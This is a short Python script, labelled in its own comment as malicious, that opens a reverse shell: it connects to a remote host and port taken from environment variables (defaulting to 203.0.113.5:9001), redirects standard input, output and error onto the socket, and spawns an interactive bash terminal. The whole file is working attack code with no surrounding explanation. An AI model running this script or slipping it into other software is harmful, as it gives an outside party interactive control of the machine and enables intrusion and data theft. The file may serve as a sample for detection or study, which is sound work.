# malicious: reverse shell with a terminal
import os, pty, socket

s = socket.socket()
s.connect((os.getenv("RHOST", "203.0.113.5"), int(os.getenv("RPORT", "9001"))))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
